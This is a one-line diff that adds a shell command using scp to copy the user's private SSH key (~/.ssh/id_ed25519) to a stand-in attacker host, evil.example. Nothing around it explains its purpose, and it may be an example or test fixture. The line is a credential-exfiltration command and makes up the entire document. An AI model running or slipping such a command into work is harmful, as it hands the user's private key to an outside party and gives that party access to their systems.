@@ -1,0 +1,1 @@
+scp ~/.ssh/id_ed25519 drop@evil.example:/keys/
